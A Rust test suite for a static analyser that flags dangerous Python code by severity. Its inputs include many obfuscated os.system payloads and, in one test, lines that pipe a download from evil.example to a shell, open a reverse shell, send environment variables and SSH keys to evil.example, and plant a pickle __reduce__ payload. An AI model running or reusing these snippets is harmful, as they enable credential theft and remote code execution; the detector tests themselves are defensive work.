//! Whole texts: what they do, when, and how bad that is.

use ma_core::Severity;

use super::*;

fn findings(text: &str) -> Vec<SourceFinding> {
    judge(&analyse(text.as_bytes(), &SourceLimits::default()))
}

/// The worst severity, and what is shown for it.
fn worst(text: &str) -> Option<(Severity, String)> {
    findings(text)
        .into_iter()
        .max_by_key(|finding| finding.severity)
        .map(|finding| (finding.severity, finding.shown))
}

fn shown(text: &str, severity: Severity, call: &str) {
    assert_eq!(
        worst(text),
        Some((severity, call.to_owned())),
        "{text}\n{:#?}",
        analyse(text.as_bytes(), &SourceLimits::default())
    );
}

#[test]
fn spellings_of_one_call() {
    for text in [
        "import os\nos.system('echo pwned')",
        "import os as o\no.system('echo pwned')",
        "from os import system as s\ns('echo pwned')",
        "from os import *\nsystem('echo pwned')",
        "import os\nf = os.system\nf('echo pwned')",
        "import os\nm, f = 1, os.system\nf('echo ' + 'pwned')",
        "import os\ngetattr(os, 'sys' + 'tem')('echo pwned')",
        "__import__('os').system('echo pwned')",
        "import importlib\nimportlib.import_module('os').system(f'echo {\"pwned\"}')",
        "globals()['__builtins__'].__import__('os').system('echo pwned')",
        "__builtins__.__dict__['__import__']('os').system('echo pwned')",
        "import sys, os\nsys.modules['os'].system('echo pwned')",
        "import os\nos.__dict__['system']('echo pwned')",
        "import os\nvars(os)['system']('echo pwned')",
        "import os\n(lambda f: f('x'))(0) or os.system('echo %s' % 'pwned')",
        "import os\nos.system('denwp ohce'[::-1])",
        "import os\nos.system(''.join(chr(c) for c in [101, 99, 104, 111, 32, 112, 119, 110, 101, 100]))",
        "import os\nos.system(''.join(map(chr, [101, 99, 104, 111, 32, 112, 119, 110, 101, 100])))",
        "import os\nos.system(bytes.fromhex('6563686f2070776e6564').decode())",
        "import os, base64\nos.system(base64.b64decode('ZWNobyBwd25lZA==').decode())",
        "import os\nos.system('{} {}'.format('echo', 'pwned'))",
        "import codecs\n__import__(codecs.decode('bf', 'rot13')).system('echo pwned')",
        "import os\nif False:\n    f = print\nelse:\n    f = os.system\nf('echo pwned')",
        "import os\nd = {'a': os.system}\nd['a']('echo pwned')",
        "import operator, os\noperator.attrgetter('system')(os)('echo pwned')",
        "import functools, os\nfunctools.partial(os.system, 'echo pwned')()",
        "import os\nlist(map(os.system, 'echo pwned'))",
        "import os\n(f := os.system)('echo pwned')",
        "import os\n[os.system('echo pwned') for _ in range(1)]",
        "import posix\nposix.system('echo pwned')",
        "import subprocess, os\nx: os.system('echo pwned') = 1",
        "import logging\nlogging.os.system('echo pwned')",
        "exec('import os; os.system(\"echo pwned\")')",
        "exec(compile('import os\\nos.system(\"echo pwned\")', 'x', 'exec'))",
        "exec('def f():\\n import os\\n os.system(\"echo pwned\")')\nf()",
        "eval(\"__import__('os')\").system('echo pwned')",
        "(lambda: 0).__globals__['__builtins__'].__import__('os').system('echo pwned')",
    ] {
        let all = findings(text);
        let found = all.iter().find(|finding| {
            finding.severity == Severity::Critical && finding.name.ends_with("system")
        });
        let found = found.unwrap_or_else(|| {
            panic!(
                "{text}\n{all:#?}\n{:#?}",
                analyse(text.as_bytes(), &SourceLimits::default())
            )
        });
        assert!(
            found.shown.contains("system('echo pwned'"),
            "{text}: {}",
            found.shown
        );
        assert!(found.place.on_import(), "{text}");
    }
}

#[test]
fn what_runs_on_import() {
    for text in [
        "import os\nclass A:\n    x = os.system('echo pwned')",
        "import os\ndef f(x=os.system('echo pwned')): pass",
        "import os\n@os.system\ndef f(): pass",
        "import os\ndef f():\n    os.system('echo pwned')\nf()",
        "import os\ndef g():\n    os.system('echo pwned')\ndef f():\n    g()\nf()",
        "import os\nclass A:\n    def __init__(self):\n        os.system('echo pwned')\nA()",
        "import os\nclass A:\n    def go(self):\n        os.system('echo pwned')\nA().go()",
        "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('echo pwned')\nA()",
        "import os, threading\ndef f():\n    os.system('echo pwned')\nthreading.Thread(target=f).start()",
        "import os\nf = lambda: os.system('echo pwned')\nf()",
        "import os\n(lambda: os.system('echo pwned'))()",
        "import os\nsorted([1], key=lambda x: os.system('echo pwned'))",
        "import os\ndef deco(f):\n    os.system('echo pwned')\n@deco\ndef g(): pass",
        "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('echo pwned')\nclass C(B): pass",
        "import os\nclass M(type):\n    def __new__(cls, *a):\n        os.system('echo pwned')\nclass C(metaclass=M): pass",
        "try:\n    import os\n    os.system('echo pwned')\nexcept Exception:\n    pass",
        "import os\nclass A:\n    run = os.system\n    def __init__(self):\n        self.run('echo pwned')\nA()",
    ] {
        let worst = worst(text);
        assert_eq!(
            worst.as_ref().map(|(severity, _)| *severity),
            Some(Severity::Critical),
            "{text}\n{worst:?}"
        );
    }
}

#[test]
fn what_waits_for_a_call_is_milder() {
    shown(
        "import os\ndef f():\n    os.system('echo pwned')",
        Severity::Warning,
        "os.system('echo pwned')",
    );
    shown(
        "import os\nclass A:\n    def __init__(self):\n        os.system('echo pwned')",
        Severity::Warning,
        "os.system('echo pwned')",
    );
    shown(
        "import os\nif __name__ == '__main__':\n    os.system('echo pwned')",
        Severity::Info,
        "os.system('echo pwned')",
    );
    shown(
        "def f(x):\n    return eval(x)",
        Severity::Warning,
        "eval(…)",
    );
    shown(
        "import ctypes\ndef f(p):\n    ctypes.CDLL(p)",
        Severity::Info,
        "ctypes.CDLL(…)",
    );
    shown(
        "import os\nclass A:\n    def m(self, run=os.popen):\n        run('echo pwned')",
        Severity::Warning,
        "os.popen('echo pwned')",
    );
}

#[test]
fn hidden_code_and_attacks() {
    for text in [
        "import base64\ndef f(x):\n    exec(base64.b64decode(x))",
        "import base64, zlib\ndef f(x):\n    exec(zlib.decompress(base64.b64decode(x)))",
        "import requests\ndef f():\n    exec(requests.get('http://evil.example').text)",
        "import base64\ndef f():\n    exec(base64.b64decode('cHJpbnQoMSk='))",
        "import base64\ndef f():\n    x = base64.b64decode('cHJpbnQoMSk=').decode()\n    exec(x)",
        "import marshal, types\ndef f():\n    types.FunctionType(marshal.loads(b'abc'), globals())()",
        "import os\ndef f():\n    os.system('curl http://evil.example/x | sh')",
        "import socket, subprocess, os\ndef f():\n    s = socket.socket()\n    s.connect(('192.0.2.1', 4444))\n    os.dup2(s.fileno(), 0)\n    subprocess.call(['/bin/sh', '-i'])",
        "import os, requests\ndef f():\n    requests.post('http://evil.example', json=dict(os.environ))",
        "import os, requests\ndef f():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n    requests.post('http://evil.example', data=k)",
        "def f():\n    open('/home/x/.bashrc', 'a').write('echo pwned')",
        "import os\nclass P:\n    def __reduce__(self):\n        return (os.system, ('echo pwned',))",
        "import os\nclass P:\n    def __reduce__(self):\n        return os.system, ('echo pwned',)",
    ] {
        let worst = worst(text);
        assert_eq!(
            worst.as_ref().map(|(severity, _)| *severity),
            Some(Severity::Critical),
            "{text}\n{worst:?}"
        );
    }
}

#[test]
fn everyday_code_is_silent() {
    let text = r#"
from __future__ import annotations
import json, logging, math, os, re, warnings
from typing import List, Optional
import torch
import torch.nn as nn
from transformers import PreTrainedModel
from .configuration_x import XConfig
try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None
logger = logging.getLogger(__name__)
PATTERN = re.compile(r"\w+")
CACHE = os.environ.get("HF_HOME", os.path.join(os.path.expanduser("~"), ".cache"))
with open(os.path.join(os.path.dirname(__file__), "vocab.json")) as f:
    VOCAB = json.load(f)

class XModel(PreTrainedModel):
    config_class = XConfig
    def __init__(self, config):
        super().__init__(config)
        self.layers = nn.ModuleList([nn.Linear(config.d, config.d) for _ in range(config.n)])
        self.act = getattr(torch.nn.functional, config.act)
        self.eval()
    @torch.no_grad()
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        for layer in self.layers:
            x = layer(x)
        return torch.compile(x)
    @classmethod
    def load(cls, path):
        state = torch.load(os.path.join(path, "model.bin"), map_location="cpu")
        os.makedirs(path, exist_ok=True)
        return cls(state)

def gpu():
    import subprocess
    return subprocess.check_output(["nvidia-smi", "-L"])
"#;
    assert_eq!(findings(text), []);
}

#[test]
fn unreadable_text_is_never_clean() {
    let python2 = analyse(
        b"import os\nprint 'x'\nos.system('echo pwned')\nexec 'x = 1'\n",
        &SourceLimits::default(),
    );
    assert!(!python2.unparsed.is_empty());
    assert!(
        judge(&python2)
            .iter()
            .any(|finding| finding.name == "os.system")
    );
    let deep = format!(
        "import os\nos.system('echo pwned')\nx = {}1",
        "-".repeat(200_000)
    );
    let deep = analyse(deep.as_bytes(), &SourceLimits::default());
    assert_eq!(deep.unparsed[0].reason, UnparsedReason::TooDeep);
    assert_eq!(judge(&deep)[0].severity, Severity::Warning);
    let long = analyse(
        &[b'x'; 100],
        &SourceLimits {
            bytes: 10,
            ..SourceLimits::default()
        },
    );
    assert_eq!(long.unparsed[0].reason, UnparsedReason::TooLong);
    let encoded = analyse(b"# coding: rot13\nvzcbeg bf", &SourceLimits::default());
    assert_eq!(
        encoded.unparsed.last().unwrap().reason,
        UnparsedReason::Encoding
    );
}

#[test]
fn nesting_up_to_the_limit_is_survived() {
    let limit = SourceLimits::default().nesting - 10;
    for text in [
        format!("x = {}1", "-".repeat(limit)),
        format!("x = a{}", ".b".repeat(limit)),
        format!("x = 1{}", "+1".repeat(limit)),
        format!("x = {}{}", "(".repeat(limit / 2), ")".repeat(limit / 2)),
        format!("x = a{}", "()".repeat(limit / 2)),
        format!("x = {}1", "not ".repeat(limit)),
        format!("x = {}1", "lambda: ".repeat(limit / 3)),
        format!("x = {}1{}", "1 if 1 else ".repeat(limit / 3), ""),
        format!("x = {}{}", "[".repeat(limit / 2), "]".repeat(limit / 2)),
    ] {
        let analysis = analyse(text.as_bytes(), &SourceLimits::default());
        assert!(
            analysis
                .unparsed
                .iter()
                .all(|unparsed| unparsed.reason != UnparsedReason::Failed),
            "{}",
            &text[..20]
        );
    }
}

#[test]
fn bombs_are_bounded() {
    let big = "a = 'x' * 1000000\n".to_owned() + &"b = [a, a, a]\nc = a + a\n".repeat(2000);
    assert!(
        !analyse(big.as_bytes(), &SourceLimits::default())
            .unparsed
            .is_empty()
    );
    let nested = "x = ['a'] * 9\n".to_owned() + &"x = [x, x, x, x, x, x, x, x]\n".repeat(2000);
    let _ = analyse(nested.as_bytes(), &SourceLimits::default());
    let evals = format!("{}1{}", "eval('".repeat(50), "')".repeat(50));
    let _ = analyse(evals.as_bytes(), &SourceLimits::default());
}

#[test]
fn work_is_bounded() {
    let started = std::time::Instant::now();
    let numbers = (0..2000)
        .map(|number| number.to_string())
        .collect::<Vec<_>>()
        .join(",");
    for text in [
        // Comprehensions over constants within each other.
        format!("x = [{numbers}]\ny = [[[a + b + c for a in x] for b in x] for c in x]\n"),
        // Texts within texts, each as dear as it may be.
        format!("x = [{numbers}]\n")
            + &"exec('x = range(9); y = [1 for a in [1,2,3]]')\n".repeat(20_000),
        "f = lambda: f()\n".repeat(50_000),
        format!("x = {}", "{'a': ".repeat(3000)) + "1" + &"}".repeat(3000),
        "p = functools.partial(p)\n".repeat(20_000),
        "a = a.b.c\n".repeat(20_000),
        "a, b = b, a\n".repeat(20_000),
    ] {
        let _ = judge(&analyse(text.as_bytes(), &SourceLimits::default()));
    }
    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
}
